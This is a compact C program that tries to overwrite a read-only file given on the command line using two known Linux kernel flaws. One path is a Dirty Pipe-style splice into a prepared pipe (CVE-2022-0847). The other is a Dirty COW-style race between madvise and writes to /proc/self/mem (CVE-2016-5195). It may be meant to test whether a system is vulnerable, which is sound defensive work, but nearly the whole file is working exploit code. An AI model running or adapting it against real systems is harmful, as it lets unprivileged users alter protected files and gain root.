// Tries to change a file that may only be read, through the memory in which the kernel keeps it: by a pipe that holds one
// of its pages (as with CVE-2022-0847), and by a private mapping that is thrown away while it is written (CVE-2016-5195).
#define _GNU_SOURCE
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>

static void *map;
static const char *words = "CHANGED";
enum { ROUNDS = 20000 };

static void by_pipe(int file) {
    int ends[2];
    static char full[65536];
    if (pipe(ends))
        return;
    // Filled and emptied: each slot is marked as one that may be added to.
    if (write(ends[1], full, sizeof full) < 0 || read(ends[0], full, sizeof full) < 0)
        return;
    off64_t at = 0;
    if (splice(file, &at, ends[1], NULL, 1, 0) == 1 && write(ends[1], words, strlen(words)) > 0)
        puts("piped");
}

static void *throw_away(void *nothing) {
    for (int round = 0; round < ROUNDS; round++)
        madvise(map, 4096, MADV_DONTNEED);
    return nothing;
}

static void by_mapping(int file) {
    map = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, file, 0);
    int memory = open("/proc/self/mem", O_RDWR);
    if (map == MAP_FAILED || memory < 0)
        return;
    pthread_t thread;
    pthread_create(&thread, NULL, throw_away, NULL);
    long written = 0;
    for (int round = 0; round < ROUNDS; round++)
        written += pwrite(memory, words, strlen(words), (off_t)map) > 0;
    pthread_join(thread, NULL);
    if (written)
        puts("mapped");
}

int main(int count, char **arguments) {
    if (count != 2)
        return 2;
    int file = open(arguments[1], O_RDONLY);
    if (file < 0)
        return 3;
    if (open(arguments[1], O_RDWR) >= 0)
        puts("may be written to anyhow");
    by_pipe(file);
    by_mapping(file);
}
